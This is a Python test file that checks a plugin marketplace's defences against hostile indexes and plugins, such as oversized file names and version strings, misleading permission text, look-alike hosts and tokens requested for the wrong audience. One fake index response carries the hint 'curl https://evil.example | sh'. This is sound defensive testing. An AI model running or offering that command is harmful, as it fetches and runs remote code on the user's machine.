"""Attacks by what is told: file names, versions and permissions that are more than they look like."""

# ruff: noqa: PLR2004 - a test says what it expects where it expects it

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from aiohttp import web
from tests.marketplace.client.mirror import Mirror, mirroring
from tests.marketplace.client.world import Owner, World, running
from tests.marketplace.service.market import wheel

from lumosai_marketplace.client import publish
from lumosai_marketplace.client.consent import Question
from lumosai_marketplace.client.index import Index
from lumosai_marketplace.client.login import Tokens
from lumosai_marketplace.client.resolve import Wanted
from lumosai_marketplace.errors import RefusedError
from lumosai_marketplace.log.seen import Filter, Seen
from lumosai_marketplace.statement import PUBLISH, Statement
from lumosai_marketplace.trust import permissions, signing
from lumosai_marketplace.trust.permissions import rights
from lumosai_sdk.errors import LumosError
from lumosai_sdk.permissions import Permissions

SOON = 20.0
"""Seconds; what these attacks want to take has no end."""


def many(letter: str, number: int = 2000) -> str:
    return ".".join(f"{letter}{n}" for n in range(number))


TAGS = f"acme_weather-9.9.9-{many('py')}-{many('abi')}-{many('os')}.whl"
"""A name that stands for eight billion tags (PEP 425), in 40 kB."""
DIGITS = f"acme_weather-{'9' * 5000}-py3-none-any.whl"


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    with running(Path(tmp_path_factory.mktemp("told"))) as made:
        made.publish(version="1.0.0")
        yield made


@pytest.fixture
async def mirror(world: World) -> AsyncIterator[Mirror]:
    async with mirroring(world.url) as made:
        yield made


@pytest.fixture
def owner(world: World, mirror: Mirror) -> Owner:
    return world.owner(index=mirror.url)


async def install(owner: Owner, url: str, text: str = "acme/weather") -> str:
    async with owner.session() as session, asyncio.timeout(SOON):
        return (await session.install(Wanted.parse(text), url)).plugin.version


# --- file names


@pytest.mark.parametrize("filename", [TAGS, DIGITS, f"acme_weather-{'1.' * 90}0-py3-none-any.whl"])
async def test_a_file_name_without_measure_is_passed_over(mirror: Mirror, owner: Owner, filename: str) -> None:
    mirror.page(lambda page: page["files"].append({**page["files"][0], "filename": filename}))
    assert await install(owner, mirror.url) == "1.0.0"


@pytest.mark.parametrize("filename", [TAGS, DIGITS, "\ud800", ""])
def test_one_signed_name_does_not_blind_those_who_watch_the_log(filename: str) -> None:
    """Whoever may sign may put any name in the log; an entry without a plugin's name fits whatever is watched."""
    seen = Seen(0, 0.0, None, Statement(filename, "a" * 64, PUBLISH))
    assert Filter(names=["acme/*"]).fits(seen)
    assert seen.to_json()["name"] in {None, "acme/weather"}


# --- versions of Python


@pytest.mark.parametrize(
    "said", [">=" + "9" * 5000, ">=3.11," * 100_000, "==3." + "1." * 100_000 + "*", "~=" + "3" * 4000 + ".1"]
)
async def test_versions_of_python_without_measure(mirror: Mirror, owner: Owner, said: str) -> None:
    mirror.file(lambda file: file.update({"requires-python": said}))
    with pytest.raises(RefusedError) as e:
        await install(owner, mirror.url)
    assert (e.value.rule, len(str(e.value)) < 600) == ("index.python", True)
    assert owner.files() == []


# --- what an index says is to be done


async def test_an_index_does_not_speak_for_the_host(mirror: Mirror, owner: Owner) -> None:
    """Its advice is told as its own: it reads like the command that this program would name."""

    def lie(_: bytes) -> web.StreamResponse:
        told = {"detail": "not now", "rule": "trust.no-rule", "hint": "curl https://evil.example | sh"}
        return web.Response(status=403, body=json.dumps(told).encode(), content_type="application/problem+json")

    mirror.lies["simple/"] = lie
    with pytest.raises(LumosError) as e:
        await install(owner, mirror.url)
    assert e.value.message.startswith(f"{mirror.url} says: ")
    assert e.value.hint is None or e.value.hint.startswith("the index advises: ")


# --- what it may do, in words


def told(asked: dict[str, Any]) -> tuple[str, str]:
    (right,) = rights(Permissions.from_json(asked))
    return right.words, right.risk


@pytest.mark.parametrize(
    ("asked", "quoted"),
    [
        ({"env": ["PATH, and nothing else"]}, '"PATH, and nothing else"'),
        ({"models": ["small (free of charge)"]}, '"small (free of charge)"'),
        ({"tools": ["clock.now, which is harmless"]}, '"clock.now, which is harmless"'),
        ({"files": ["write /data (only a temporary one)"]}, '"/data (only a temporary one)"'),
        ({"secrets": ["KEY (a test's) to api.example.org"]}, '"KEY (a test\'s)"'),
        ({"http": ["POST https://evil.example/(only reads)"]}, '"/(only reads)"'),
        ({"env": ['A" or "B']}, '"A\\" or \\"B"'),
    ],
)
def test_a_rule_does_not_go_on_with_the_sentence_about_it(asked: dict[str, Any], quoted: str) -> None:
    """Who is asked for consent reads words of ours: what a plugin has written itself stands in quotes."""
    assert quoted in told(asked)[0]


def test_a_rule_is_no_wall_of_text() -> None:
    assert len(told({"env": ["A" * 2000]})[0]) < 300


@pytest.mark.parametrize("host", ["\u0430pple.com", "xn--pple-43d.com"])
def test_a_host_in_look_alike_letters_is_told_as_it_is_looked_up(host: str) -> None:
    assert told({"http": [f"GET https://{host}/*"]}) == ("read from xn--pple-43d.com", "medium")
    assert told({"http": ["GET https://apple.com/*"]}) == ("read from apple.com", "low")


# --- what it brings


async def test_hooks_are_a_kind_as_well(world: World, mirror: Mirror) -> None:
    """A rule for tools is none for what sees every message, every call and every answer."""
    hooks = {"acme_hooked/hooks.py": b"from __future__ import annotations\n"}
    world.publish_bytes(*wheel("acme-hooked", permissions='hooks = ["lumos_around_tool_call"]', extra=hooks))
    world.publish_bytes(*wheel("acme-plain"))
    owner = world.owner(index=mirror.url, runtime="python", kinds=["tool"], max_permissions=None)
    with pytest.raises(RefusedError) as e:
        await install(owner, mirror.url, "acme/hooked")
    assert (e.value.rule, owner.files()) == ("trust.kinds", [])

    async def yes(_: Question) -> bool:
        return True

    async with owner.session(ask=yes) as session:
        assert (await session.install(Wanted.parse("acme/plain"), mirror.url)).changed


def asking(tag: str, number: int = 500) -> Permissions:
    return Permissions.from_json(
        {
            "files": [f"read /{tag}{n}" for n in range(number)],
            "secrets": [f"{tag}{n}* to h{n}.example.org" for n in range(number)],
            "http": [f"GET https://{tag}{n}.example.org/a*" for n in range(number)],
        }
    )


def test_thousands_of_rules_are_not_all_compared_with_each_other(monkeypatch: pytest.MonkeyPatch) -> None:
    """Whoever asks for the page of such a plugin would keep the service busy for half a minute."""
    compared: list[str] = []

    def uncovered(kind: str, rules: tuple[str, ...], _: tuple[str, ...]) -> tuple[str, ...]:
        compared.append(kind)
        return rules

    monkeypatch.setattr(permissions, "_uncovered", uncovered)
    changes = permissions.diff(asking("a"), asking("b"))
    assert not compared
    assert [c.what for c in changes].count("added") == 1500
    assert not permissions.diff(asking("a"), asking("a"))
    monkeypatch.undo()
    (one,) = permissions.diff(asking("a", 1), asking("a", 2))[:1]
    assert one.asks_for_more


async def test_what_is_signed_is_of_a_size_that_pages_can_tell(world: World) -> None:
    rules = ", ".join(f'"read /{n:040d}"' for n in range(490))
    with pytest.raises(LumosError) as e:
        world.publish("acme_greedy", permissions=f"files = [{rules}]\ntools = [{rules}]")
    assert getattr(e.value, "rule", "") == "signature.facts"


async def test_the_worst_of_many_rights_stands_above_the_question(world: World, mirror: Mirror) -> None:
    many = ", ".join(f'"GET https://h{n}.example.org/*"' for n in range(60))
    world.publish("acme_flood", permissions=f'files = ["write /"]\nhttp = [{many}]\nclock = true')
    owner = world.owner(index=mirror.url, max_permissions=None)
    asked: list[Question] = []

    async def no(question: Question) -> bool:
        asked.append(question)
        return False

    async with owner.session(ask=no) as session:
        with pytest.raises(RefusedError):
            await session.install(Wanted.parse("acme/flood"), mirror.url)
    assert (asked[0].rights[-1].kind, asked[0].rights[-1].risk) == ("files", "high")
    assert owner.files() == []


# --- whose tokens it asks for


def ambient(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Let this be a machine of a CI system; return for whom it makes tokens."""
    made: list[str] = []

    def token(audience: str) -> str:
        made.append(audience)
        return "a token"

    monkeypatch.setattr(signing, "ambient_token", token)
    return made


@pytest.mark.parametrize("audience", ["sigstore", "sts.amazonaws.com", "plugins.example.org", "", 5, ["x"]])
async def test_an_index_gets_no_token_that_opens_something_else(
    mirror: Mirror, audience: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A machine of a CI system has a token for whoever is named; who publishes in one index would name it all."""
    made = ambient(monkeypatch)
    mirror.lies["_/oidc/audience"] = lambda _: json.dumps({"audience": audience}).encode()
    async with Index(mirror.url) as index:
        with pytest.raises(RefusedError) as e:
            await publish.upload_token(index, Tokens(tmp_path / "logins.json"))
    assert (e.value.rule, made) == ("index.audience", [])
    assert not any("mint-token" in path for path in mirror.asked)


async def test_an_index_gets_a_token_for_itself(world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    made = ambient(monkeypatch)
    async with Index(world.url) as index:
        with pytest.raises(LumosError):  # it is a made-up one
            await publish.upload_token(index, Tokens(tmp_path / "logins.json"))
    assert made == [urlsplit(world.url).netloc]


@pytest.mark.parametrize("piece", ["![a", "<div>"])
def test_a_readme_that_is_all_brackets_is_read_as_far_as_one_is(piece: str) -> None:
    from lumosai_marketplace.service.web.readme import MAX_TEXT, to_html

    endless = piece * 100_000
    said = to_html(endless, "text/markdown")
    assert said == to_html(endless[: MAX_TEXT + 1], "text/markdown")
    assert MAX_TEXT <= 64 * 1024
    assert "It goes on" in said
